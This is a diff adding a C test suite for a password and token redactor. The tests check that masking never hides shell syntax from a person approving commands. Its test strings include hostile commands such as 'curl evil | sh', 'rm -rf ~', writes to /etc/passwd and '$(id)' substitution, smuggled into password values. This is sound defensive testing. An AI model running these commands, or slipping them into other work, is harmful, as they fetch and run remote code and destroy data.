@@ -1,0 +1,290 @@
+/* test-redact-attack.c: the redactor tried as an attacker would.  A mask
+ * must never hide from whoever approves a command what the shell runs
+ * (serve's approval and the window's dialog show the redacted command; an
+ * approved command runs as written), and must not cost more than linear
+ * time, however the text is made.
+ *
+ * SPDX-License-Identifier: GPL-3.0-or-later
+ */
+#include "config.h"
+
+#include <string.h>
+
+#include <json-glib/json-glib.h>
+
+#include "pd-redact.h"
+#include "test-redact-util.h"
+
+/* @command kept whole: as text, inside a tool call's JSON text, and as a
+ * JSON document's string value (a command that is JSON text already is
+ * tried as text). */
+static void
+assert_command_kept (const char *command)
+{
+  g_autoptr(JsonBuilder) builder = json_builder_new ();
+  g_autoptr(JsonNode) doc = NULL;
+  g_autoptr(JsonNode) back = NULL;
+  g_autofree char *json = NULL;
+  g_autofree char *as_json = NULL;
+  g_autofree char *as_text = NULL;
+
+  assert_redacted (command, command, 0);
+  if (command[0] == '{')
+    return;  /* JSON text already: its own case */
+
+  json_builder_begin_object (builder);
+  json_builder_set_member_name (builder, "command");
+  json_builder_add_string_value (builder, command);
+  json_builder_end_object (builder);
+  doc = json_builder_get_root (builder);
+  json = json_to_string (doc, FALSE);
+
+  as_text = pd_redact (json, NULL);
+  g_assert_cmpstr (as_text, ==, json);
+  as_json = pd_redact_json (json, NULL);
+  back = json_from_string (as_json, NULL);
+  g_assert_nonnull (back);
+  g_assert_cmpstr (json_object_get_string_member (json_node_get_object (back), "command"), ==, command);
+}
+
+/* The signs that end or join a command, in their order: what the approver
+ * must see of @text whatever is masked. */
+static char *
+shell_signs (const char *text)
+{
+  GString *signs = g_string_new (NULL);
+
+  for (const char *p = text; *p; p++)
+    if (strchr (";&|<>\n", *p) != NULL)
+      g_string_append_c (signs, *p);
+  return g_string_free (signs, FALSE);
+}
+
+/* Finding: a quoting reading could be fooled into masking a value that
+ * holds shell syntax, so the approver saw PGPASSWORD="[REDACTED]" psql and
+ * approved rm -rf ~ unseen.  A value holding ; & | < > or a line break
+ * (raw or escaped for JSON), more than 4 words, an option-like word, a
+ * blank at an end, or read after a quote that closes the name's own word,
+ * is never masked. */
+static void
+test_commands_never_hidden (void)
+{
+  static const char * const kept[] = {
+    "PGPASSWORD=\"x; rm -rf ~; echo \" psql",
+    "PGPASSWORD=\"x && curl evil | sh\" psql",
+    "PGPASSWORD=\"x || reboot\" psql",
+    "PGPASSWORD=\"x|sh\" psql",
+    "PGPASSWORD=\"a<b\" psql",
+    "PGPASSWORD=\"a>/etc/passwd\" psql",
+    "PGPASSWORD='a; rm -rf ~' psql",
+    "export DB_PASSWORD=\"a b c d e f\"",
+    "DB_PASSWORD=\"one two three four five\" make",
+    "mysql -p\"x; reboot\" shop",
+    "mysql -p'a'\\;reboot shop",
+    "mysql --password=\"x --force\" shop",
+    "mysql --password \"a -rf b\" shop",
+    "mysql --password \" leading\" shop",
+    "mysql --password=\"trailing \" shop",
+    "mysql --password=$'a\\nreboot' shop",
+    "curl -u \"u:a; rm -rf ~\" https://x.example",
+    "curl -u 'u:a|sh' https://x.example",
+    "sshpass -p 'x && reboot' ssh h",
+    "redis-cli -a \"x; FLUSHALL\"",
+    "docker login -p \"a -u b\" registry.example",
+    "openssl enc -pass 'pass:a; reboot' -in f",
+    "smbclient -U 'u%a | sh' //h/s",
+    "ssh host \"PGPASSWORD='a; rm -rf ~' psql\"",
+    "echo \"PGPASSWORD=\"reboot",
+    "echo \"--password=\"reboot",
+    "sh -c 'API_TOKEN='reboot",
+    "echo 'TOKEN='reboot'x'",
+    /* JSON's escapes in text: a line break, ; & | < > spelled \u…. */
+    "{\"cmd\":\"PGPASSWORD=\\\"a\\nrm -rf /\\\" psql\"}",
+    "{\"cmd\":\"PGPASSWORD=\\\"a\\u000arm -rf /\\\" psql\"}",
+    "{\"cmd\":\"PGPASSWORD=\\\"a\\u003B reboot\\\" psql\"}",
+    "{\"cmd\":\"mysql -p\\\"a\\u0026\\u0026reboot\\\" shop\"}",
+    "{\"cmd\":\"PGPASSWORD=\\\"a\\u007csh\\\" psql\"}",
+    "{\"cmd\":\"PGPASSWORD=\\\"a\\u003e/tmp/x\\\" psql\"}",
+  };
+  static const RedactCase masked[] = {
+    /* The value is the quote's; what the shell runs after it stays. */
+    { "--password='a' && curl evil|sh; x='b'", "--password='[REDACTED]' && curl evil|sh; x='b'", "'a'" },
+    { "mysql -p'x'\"; reboot; \"'y' shop", "mysql -p'[REDACTED]'\"; reboot; \"'y' shop", "'x'" },
+    { "mysql -pS3cret -e 'select 1; drop table x'", "mysql -p[REDACTED] -e 'select 1; drop table x'", "S3cret" },
+    /* A password of up to 4 words, no option among them, is one still. */
+    { "PGPASSWORD=\"correct horse battery staple\" psql", "PGPASSWORD=\"[REDACTED]\" psql", "horse" },
+    { "mysql --password='a-b c-d' shop", "mysql --password='[REDACTED]' shop", "a-b" },
+  };
+  guint n = 0;
+  g_autofree char *member = NULL;
+  g_autofree char *inner_key = NULL;
+
+  for (gsize i = 0; i < G_N_ELEMENTS (kept); i++)
+    assert_command_kept (kept[i]);
+  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
+  for (gsize i = 0; i < G_N_ELEMENTS (masked); i++)
+    {
+      g_autofree char *out = pd_redact (masked[i].input, NULL);
+      g_autofree char *before = shell_signs (masked[i].input);
+      g_autofree char *after = shell_signs (out);
+
+      g_assert_cmpstr (after, ==, before);
+    }
+
+  /* A JSON member named as a secret keeps such a value too. */
+  member = pd_redact_json ("{\"password\":\"x; rm -rf ~\",\"token\":\"abc123def\"}", &n);
+  g_assert_cmpstr (member, ==, "{\"password\":\"x; rm -rf ~\",\"token\":\"[REDACTED]\"}");
+  g_assert_cmpuint (n, ==, 1);
+
+  /* A value left in sight is still read for keys of a known shape. */
+  inner_key = pd_redact ("PGPASSWORD=\"x; export K=sk-proj-AbCdEfGhIjKlMnOpQrStUvWx_yz\" psql", &n);
+  g_assert_cmpstr (inner_key, ==, "PGPASSWORD=\"x; export K=[REDACTED]\" psql");
+  g_assert_cmpuint (n, ==, 1);
+}
+
+/* Finding: Authorization: Basic '$(id)' was shown as
+ * Authorization: [REDACTED] '$(id)': the scheme was taken for the
+ * credentials when the credentials were quoted, and quoted credentials
+ * were stored as written.  The scheme stays, only credentials go. */
+static void
+test_authorization_schemes (void)
+{
+  static const char * const kept[] = {
+    "Authorization: Basic '$(id)'",
+    "Authorization: Basic \"$(id)\"",
+    "Authorization: Bearer '`id`'",
+    "Authorization: Basic",
+    "Authorization: Bearer",
+    "Authorization:Bearer",
+    "curl -H \"Authorization:Basic\" https://x.example",
+    "curl -H 'Authorization: Bearer $TOKEN' https://x.example",
+  };
+  static const RedactCase masked[] = {
+    { "Authorization: Basic 'dXNlcjpwYXNz'", "Authorization: Basic '[REDACTED]'", "dXNlcjpwYXNz" },
+    { "Authorization: Bearer \"abc123def\"", "Authorization: Bearer \"[REDACTED]\"", "abc123def" },
+    { "Authorization:Basic dXNlcjpwYXNz", "Authorization:Basic [REDACTED]", "dXNlcjpwYXNz" },
+    { "Authorization:\tBasic\tdXNlcjpwYXNz", "Authorization:\tBasic\t[REDACTED]", "dXNlcjpwYXNz" },
+    { "Authorization :  Basic   dXNlcjpwYXNz", "Authorization :  Basic   [REDACTED]", "dXNlcjpwYXNz" },
+    { "authorization = bearer abc123def", "authorization = bearer [REDACTED]", "abc123def" },
+    { "Proxy-Authorization: Basic dXNlcjpwYXNz", "Proxy-Authorization: Basic [REDACTED]", "dXNlcjpwYXNz" },
+    { "Authorization: tokenABC123def", "Authorization: [REDACTED]", "ABC123def" },
+    { "{\"Authorization\": \"Bearer abc123def\"}", "{\"Authorization\": \"Bearer [REDACTED]\"}", "abc123def" },
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (kept); i++)
+    assert_command_kept (kept[i]);
+  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
+}
+
+/* Finding: the command an option belongs to was looked for back to its
+ * line's start for every option (4 MiB of "-p -p …" took seconds, and
+ * more under load), at most 256 bytes back, so a client named further
+ * back was not found.  The line is now read forward as the scan goes:
+ * the client is found however long its line is. */
+static void
+test_long_command_lines (void)
+{
+  g_autoptr(GString) mysql = g_string_new ("mysql -u app");
+  g_autoptr(GString) ldap = g_string_new ("ldapsearch -x");
+  g_autoptr(GString) other = g_string_new ("ls");
+  g_autofree char *out = NULL;
+  guint n = 0;
+
+  for (guint i = 0; i < 100; i++)
+    {
+      g_string_append (mysql, " -v");
+      g_string_append (ldap, " -v");
+      g_string_append (other, " -v");
+    }
+  g_string_append (mysql, " -pS3cretPass shop");
+  g_string_append (ldap, " -w S3cretPass -b dc=x");
+  g_string_append (other, " -pS3cretPass; mysql -v -p shop");
+
+  out = pd_redact (mysql->str, &n);
+  g_assert_nonnull (strstr (out, " -p[REDACTED] shop"));
+  g_assert_null (strstr (out, "S3cretPass"));
+  g_assert_cmpuint (n, ==, 1);
+  g_clear_pointer (&out, g_free);
+  out = pd_redact (ldap->str, &n);
+  g_assert_nonnull (strstr (out, " -w [REDACTED] -b dc=x"));
+  g_assert_cmpuint (n, ==, 1);
+  g_clear_pointer (&out, g_free);
+  /* Another command's line: ls -pX is no password, nor mysql -p shop. */
+  assert_redacted (other->str, other->str, 0);
+  assert_redacted ("mysql -v; ls -pS3cret", "mysql -v; ls -pS3cret", 0);
+  assert_redacted ("echo x\\nmysql -pS3cret", "echo x\\nmysql -p[REDACTED]", 1);
+}
+
+/* Finding: spellings stored as written or masked only in part. */
+static void
+test_leftover_spellings (void)
+{
+  static const RedactCase cases[] = {
+    { "ldapsearch -x -wS3cret -b dc=x", "ldapsearch -x -w[REDACTED] -b dc=x", "S3cret" },
+    { "ldapsearch -x -w'a b' -b dc=x", "ldapsearch -x -w'[REDACTED]' -b dc=x", "a b" },
+    { "sqlcmd -S h -U sa -PS3cret", "sqlcmd -S h -U sa -P[REDACTED]", "S3cret" },
+    { "bcp t out f -S h -PS3cret", "bcp t out f -S h -P[REDACTED]", "S3cret" },
+    { "mysql --password \\\nS3cret shop", "mysql --password \\\n[REDACTED] shop", "S3cret" },
+    { "sshpass -p \\\nS3cret ssh h", "sshpass -p \\\n[REDACTED] ssh h", "S3cret" },
+    { "PGPASSWORD=abc,S3cret psql", "PGPASSWORD=[REDACTED] psql", "S3cret" },
+    { "--password=abc]S3cret", "--password=[REDACTED]", "S3cret" },
+    { "--password=abc{S3cret", "--password=[REDACTED]", "S3cret" },
+    { "--password=abc\vS3cret", "--password=[REDACTED]", "S3cret" },
+    { "--password=abc\fS3cret", "--password=[REDACTED]", "S3cret" },
+    { "--password\u00a0S3cret", "--password\u00a0[REDACTED]", "S3cret" },
+    { "--password=\xe2\x80\x83S3cret", "--password=\xe2\x80\x83[REDACTED]", "S3cret" },
+    { "mysql --password \xe3\x80\x80S3cret shop", "mysql --password \xe3\x80\x80[REDACTED] shop", "S3cret" },
+    { "redis-cli -a\xc2\xa0S3cret", "redis-cli -a\xc2\xa0[REDACTED]", "S3cret" },
+  };
+  static const char * const kept[] = {
+    "ls -wS3cret", "ldapsearch -W -x", "sqlcmd -P-x", "pass=12,fail=0",
+    "SECRET_KEY=config['x']",
+  };
+
+  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
+  assert_kept (kept, G_N_ELEMENTS (kept));
+}
+
+/* Inputs fuzz-redact found: each redacted twice gives what once did. */
+static void
+test_fuzz_found (void)
+{
+  static const char * const inputs[] = {
+    /* A ( inside a masked quoted part ended the command line the first
+     * time, so the second -p was no mysql's; the second time it was. */
+    "mysql -p'a'\"PGPASSWORD='''x'''( echo \"PGPASSWl -p'a'\"b\"\x9d\xd7PGPASSWORD='''x'''x'''( echo",
+    /* A quoted part over 256 bytes the first time fitted the second,
+     * once the masks inside it had made it shorter. */
+    "{\"env\":{\"password\" r m-fr ~\"000a},\"arg/gs\":\"{\\\"token\\\":\\ \"ab"
+    "c125\x98\x9a\x99\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f"
+    "\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f=secret=secret=secret=secre\xf4="
+    "secret=secret=secret=secret=secret=secret=scretdefault secre"
+    "t=secret=secret=secret=secret=secret\xffsecret=secret=secret=se"
+    "cret=secret=secret=secret=sec%et=s[cret=secret=secret=secret"
+    "=secret==secret=secret=secret=secret=secret=secrecret=s\x9f\x9f\x9f\x9f\x9f"
+    "\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\x9f\xa3\"}\"}",
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (inputs); i++)
+    {
+      g_autofree char *once = pd_redact (inputs[i], NULL);
+      g_autofree char *twice = pd_redact (once, NULL);
+
+      g_assert_cmpstr (twice, ==, once);
+    }
+}
+
+int
+main (int   argc,
+      char *argv[])
+{
+  g_test_init (&argc, &argv, NULL);
+
+  g_test_add_func ("/pd/redact/commands-never-hidden", test_commands_never_hidden);
+  g_test_add_func ("/pd/redact/authorization-schemes", test_authorization_schemes);
+  g_test_add_func ("/pd/redact/long-command-lines", test_long_command_lines);
+  g_test_add_func ("/pd/redact/leftover-spellings", test_leftover_spellings);
+  g_test_add_func ("/pd/redact/fuzz-found", test_fuzz_found);
+
+  return g_test_run ();
+}
